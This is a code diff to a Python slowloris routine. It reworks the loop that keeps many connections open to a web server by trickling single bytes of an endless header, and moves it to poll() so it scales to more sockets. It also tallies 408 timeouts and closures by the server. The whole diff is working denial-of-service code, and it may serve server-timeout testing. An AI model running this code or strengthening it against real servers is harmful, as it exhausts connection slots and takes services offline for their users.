@@ -118,27 +118,34 @@ def cmd_slowloris(a):
     print('attacking', flush=True)
     closed, got408, drip = 0, 0, b'X-Slow: ' + b'a' * 4000
     pos = 0
-    while not stopped(a) and socks:
+    poll = select.poll()
+    by_fd = {s.fileno(): s for s in socks}
+    for fd in by_fd:
+        poll.register(fd, select.POLLIN)
+    while not stopped(a) and by_fd:
         t = time.monotonic()
-        for s in list(socks):
+        for fd, s in list(by_fd.items()):
             if send_some(s, drip[pos % len(drip):][:1]) < 0:
-                socks.remove(s)
+                poll.unregister(fd)
+                del by_fd[fd]
+                s.close()
                 closed += 1
         pos += 1
         # answers: a 408 and FIN (or a reset) end a connection
-        r, _, _ = select.select(socks[:1000], [], [], 0)
-        for s in r:
+        for fd, _ in poll.poll(0):
+            s = by_fd.pop(fd, None)
+            if s is None:
+                continue
             try:
                 d = s.recv(4096)
             except OSError:
                 d = b''
-            if d.startswith(b'HTTP/1.1 408'):
-                got408 += 1
-            if not d or b'408' in d:
-                socks.remove(s)
-                s.close()
-                closed += 1
+            got408 += d.startswith(b'HTTP/1.1 408')
+            poll.unregister(fd)
+            s.close()
+            closed += 1
         time.sleep(max(0.0, a.interval / 1000 - (time.monotonic() - t)))
+    socks = list(by_fd.values())
     for s in socks:
         s.close()
     out(connected=a.conns - failed, closed_by_server=closed,
